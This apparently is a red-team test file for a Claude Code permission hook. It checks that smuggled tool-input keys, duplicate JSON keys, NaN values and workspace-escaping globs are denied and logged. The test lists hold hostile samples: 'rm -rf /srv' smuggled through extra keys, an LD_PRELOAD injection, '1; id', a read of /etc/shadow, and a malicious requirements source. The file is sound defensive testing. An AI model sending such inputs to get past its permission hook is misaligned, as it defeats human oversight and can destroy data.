"""Forty-fourth red-team pass, part B: the Claude Code hook's input, in process (the real agent,
policy and decision log).

On the tree before this pass a Bash input with any key besides `command` was decided on
`command` and rewritten with every other key kept (`{**tool_input, "command": …}`): keys the
hook never looked at rode into `updatedInput` and on to the host (`shell`, `cwd`, `env`,
`stdin` …), a file tool was decided on `file_path` while a `path` went along, a value of the
wrong type was not looked at, a key given twice was decided on the last copy and `NaN` /
`Infinity` were accepted. Each built-in tool's keys and value types are an allowlist now; the
rest is refused (and recorded).
"""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from enforcement_agent.agent import EnforcementAgent
from enforcement_agent.integrations.claude_hook import HookOperator, run_hook
from gonogo.config import Settings
from gonogo.wiring import build_agent


@pytest.fixture(scope="module")
def wired(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[EnforcementAgent, Path]]:
    root = tmp_path_factory.mktemp("hook44b")
    ws = root / "project"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "app.py").write_text("x = 1\n")
    (ws / "nb.ipynb").write_text('{"cells": [], "metadata": {}, "nbformat": 4}\n')
    agent = build_agent(Settings(home=root / "home"), workspace=ws)
    yield agent, ws
    agent.telemetry.shutdown()


def _payload(ws: Path, tool: str, tool_input: Any, **extra: Any) -> bytes:
    data = {
        "session_id": "s44b",
        "cwd": str(ws),
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": "toolu_44b",
        **extra,
    }
    return json.dumps(data).encode()


def _answer(wired: tuple[EnforcementAgent, Path], raw: bytes) -> dict[str, Any]:
    agent, ws = wired
    out = run_hook(raw, HookOperator(tenant="acme", role="contributor", workspace=ws), agent)
    inner: dict[str, Any] = out["hookSpecificOutput"]
    return inner


def _records(agent: EnforcementAgent) -> list[dict[str, Any]]:
    log = agent.decision_log.audit_dir / "acme" / "decisions.jsonl"
    return [json.loads(line) for line in log.read_text().splitlines() if line]


WS = "{ws}"  # replaced by the workspace
REFUSED: list[tuple[str, dict[str, Any]]] = [
    ("Bash", {"command": "ls", "shell": "/bin/sh"}),
    ("Bash", {"command": "ls", "cwd": "/"}),
    ("Bash", {"command": "ls", "env": {"LD_PRELOAD": "/tmp/x.so"}}),
    ("Bash", {"command": "ls", "stdin": "rm -rf /srv"}),
    ("Bash", {"command": "ls", "commands": ["rm -rf /srv"]}),
    ("Bash", {"command": "ls", "input": "x"}),
    ("Bash", {"command": "ls", "args": ["-c", "id"]}),
    ("Bash", {"command": "ls", "script": "rm -rf /srv"}),
    ("Bash", {"command": "ls", "role": "admin", "tenant": "globex"}),
    ("Bash", {"command": "ls", "Command": "rm -rf /srv"}),
    ("Bash", {"command": "ls", "timeout": "never"}),
    ("Bash", {"command": "ls", "timeout": True}),
    ("Bash", {"command": "ls", "run_in_background": "yes"}),
    ("Bash", {"command": "ls", "description": {"x": 1}}),
    ("Write", {"file_path": f"{WS}/src/a.py", "content": "x", "path": f"{WS}/.git/hooks/x"}),
    ("Write", {"file_path": f"{WS}/src/a.py", "content": "x", "role": "admin"}),
    ("Edit", {"file_path": f"{WS}/src/app.py", "old_string": "x", "new_string": "y",
              "files": [f"{WS}/CLAUDE.md"]}),
    ("Read", {"file_path": f"{WS}/src/app.py", "path": "/etc/shadow"}),
    ("Read", {"file_path": f"{WS}/src/app.py", "offset": "1; id"}),
    ("Glob", {"pattern": "*", "root": "/"}),
    ("Grep", {"pattern": "x", "paths": ["/etc"]}),
    ("WebFetch", {"url": "https://example.com", "prompt": "x", "method": "POST"}),
]  # fmt: skip


@pytest.mark.parametrize(("tool", "tool_input"), REFUSED)
def test_unknown_keys_and_types_are_refused_and_recorded(
    wired: tuple[EnforcementAgent, Path], tool: str, tool_input: dict[str, Any]
) -> None:
    agent, ws = wired
    ti = json.loads(json.dumps(tool_input).replace(WS, str(ws)))
    out = _answer(wired, _payload(ws, tool, ti))
    assert out["permissionDecision"] == "deny", (tool, ti, out)
    assert "updatedInput" not in out
    assert out["permissionDecisionReason"].startswith("hook.invalid-tool-input: ")
    rec = _records(agent)[-1]
    assert rec["rule"] == "hook.invalid-tool-input" and rec["tool_use_id"] == "toolu_44b"


MALFORMED = [
    b'{"session_id":"s","cwd":"%(ws)s","hook_event_name":"PreToolUse","tool_name":"Bash",'
    b'"tool_input":{"command":"rm -rf /srv","command":"ls"}}',
    b'{"session_id":"s","cwd":"%(ws)s","hook_event_name":"PreToolUse","tool_name":"Bash",'
    b'"tool_input":{"command":"ls","command":"ls"}}',
    b'{"session_id":"s","cwd":"%(ws)s","hook_event_name":"PreToolUse","tool_name":"Read",'
    b'"tool_name":"Bash","tool_input":{"command":"ls"}}',
    b'{"session_id":"s","cwd":"/","cwd":"%(ws)s","hook_event_name":"PreToolUse",'
    b'"tool_name":"Bash","tool_input":{"command":"ls"}}',
    b'{"session_id":"s","cwd":"%(ws)s","hook_event_name":"PreToolUse","tool_name":"Bash",'
    b'"tool_input":{"command":"ls","timeout":NaN}}',
    b'{"session_id":"s","cwd":"%(ws)s","hook_event_name":"PreToolUse","tool_name":"Bash",'
    b'"tool_input":{"command":"ls","timeout":Infinity}}',
    b'{"session_id":"s","cwd":"%(ws)s","hook_event_name":"PreToolUse","tool_name":"Bash",'
    b'"tool_input":{"command":"ls","timeout":-Infinity}}',
]


@pytest.mark.parametrize("raw", MALFORMED)
def test_duplicate_keys_and_non_json_numbers_are_malformed(
    wired: tuple[EnforcementAgent, Path], raw: bytes
) -> None:
    _, ws = wired
    out = _answer(wired, raw % {b"ws": str(ws).encode()})
    assert out["permissionDecision"] == "deny" and "updatedInput" not in out
    assert out["permissionDecisionReason"].startswith("hook.malformed-input: ")


def test_the_rewrite_keeps_only_known_keys_and_runs_in_the_sandbox(
    wired: tuple[EnforcementAgent, Path],
) -> None:
    agent, ws = wired
    ti = {"command": "ls src", "description": "list", "timeout": 60000, "run_in_background": False}
    out = _answer(wired, _payload(ws, "Bash", ti))
    assert out["permissionDecision"] == "allow"
    updated = out["updatedInput"]
    assert set(updated) == set(ti)
    assert {k: updated[k] for k in ("description", "timeout", "run_in_background")} == {
        "description": "list",
        "timeout": 60000,
        "run_in_background": False,
    }
    words = shlex.split(updated["command"])
    assert words[-3:] == ["bash", "-c", "ls src"] and "agent" in words and "exec" in words
    assert _records(agent)[-1]["tool_use_id"] == "toolu_44b"


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("Read", {"file_path": f"{WS}/src/app.py", "offset": 1, "limit": 20}),
        ("Edit", {"file_path": f"{WS}/src/app.py", "old_string": "x", "new_string": "y",
                  "replace_all": True}),
        ("MultiEdit", {"file_path": f"{WS}/src/app.py",
                       "edits": [{"old_string": "x", "new_string": "y"}]}),
        ("Write", {"file_path": f"{WS}/src/b.py", "content": "y = 2\n"}),
        ("NotebookEdit", {"notebook_path": f"{WS}/nb.ipynb", "new_source": "print(1)",
                          "cell_type": "code", "edit_mode": "insert"}),
        ("Grep", {"pattern": "x", "path": f"{WS}/src", "-i": True, "-n": True,
                  "output_mode": "content", "head_limit": 10}),
        ("Glob", {"pattern": "src/*.py"}),
        ("LS", {"path": f"{WS}/src", "ignore": ["*.pyc"]}),
    ],
)  # fmt: skip
def test_known_keys_of_file_tools_stay_allowed(
    wired: tuple[EnforcementAgent, Path], tool: str, tool_input: dict[str, Any]
) -> None:
    _, ws = wired
    ti = json.loads(json.dumps(tool_input).replace(WS, str(ws)))
    out = _answer(wired, _payload(ws, tool, ti))
    assert out["permissionDecision"] == "allow", (tool, out["permissionDecisionReason"])


def test_notebook_source_is_decided_as_written_text(
    wired: tuple[EnforcementAgent, Path],
) -> None:
    """The text a NotebookEdit writes is judged as a Write's content is (a requirements
    file's install source): the same text through Write and through NotebookEdit."""
    _, ws = wired
    text = "evil @ https://example.invalid/evil.tar.gz\n"
    write = _answer(
        wired, _payload(ws, "Write", {"file_path": f"{ws}/requirements.txt", "content": text})
    )
    nb = _answer(
        wired,
        _payload(
            ws, "NotebookEdit", {"notebook_path": f"{ws}/requirements.txt", "new_source": text}
        ),
    )
    assert write["permissionDecision"] == "deny"
    assert nb["permissionDecision"] == "deny", nb["permissionDecisionReason"]


# ---- Glob: brace forms, extended globs and wildcards that walk into a link out --------------
@pytest.fixture(scope="module")
def globbed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[EnforcementAgent, Path]]:
    root = tmp_path_factory.mktemp("hook44b-glob")
    ws = root / "project"
    for d in ("src/pkg", "tests"):
        (ws / d).mkdir(parents=True)
    (ws / "src" / "app.py").write_text("x = 1\n")
    (root / "outside").mkdir()
    (root / "outside" / "s").write_text("outside\n")
    (ws / "lnk").symlink_to(root / "outside")
    (ws / "tests" / "inner").symlink_to("../src")
    agent = build_agent(Settings(home=root / "home"), workspace=ws)
    yield agent, ws
    agent.telemetry.shutdown()


GLOBS_OUT = [
    "{..,src}/*",
    "{../..,x}/*",
    "{/etc,src}/*",
    "{.,..}/*",
    "src/{..,x}/../*",
    "{lnk,src}/*",
    "@(..)/*",
    "+(.)/*",
    "l?k/*",
    "[l]nk/*",
    "*/s",
    "l*/**",
    "{a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}/*",
]
GLOBS_IN = [
    "{src,tests}/**/*.py",
    "src/*/x.py",
    "tests/*/app.py",
    "**/*.@(py|ts)",
    "*.{py,ts}",
    "src/{a,b}/{c,d}/*",
    "**/*",
    "l?k",
]


@pytest.mark.parametrize("pattern", GLOBS_OUT)
def test_globs_that_reach_outside_are_refused(
    globbed: tuple[EnforcementAgent, Path], pattern: str
) -> None:
    _, ws = globbed
    out = _answer(globbed, _payload(ws, "Glob", {"pattern": pattern}))
    assert out["permissionDecision"] == "deny", (pattern, out["permissionDecisionReason"])


@pytest.mark.parametrize("pattern", GLOBS_IN)
def test_globs_inside_stay_allowed(globbed: tuple[EnforcementAgent, Path], pattern: str) -> None:
    _, ws = globbed
    out = _answer(globbed, _payload(ws, "Glob", {"pattern": pattern}))
    assert out["permissionDecision"] == "allow", (pattern, out["permissionDecisionReason"])


def test_by_effect_a_brace_glob_lists_the_parent(globbed: tuple[EnforcementAgent, Path]) -> None:
    """A glob library expanding braces (as Python's glob after expansion, node's glob and
    bash do) lists the folder above the workspace for `{..,src}/*` and, through the link,
    the folder outside for `l?k/*`."""
    import glob as pyglob

    _, ws = globbed
    found = [p for form in ("../*", "src/*") for p in pyglob.glob(form, root_dir=ws)]
    assert "../outside" in found
    assert "lnk/s" in pyglob.glob("l?k/*", root_dir=ws)
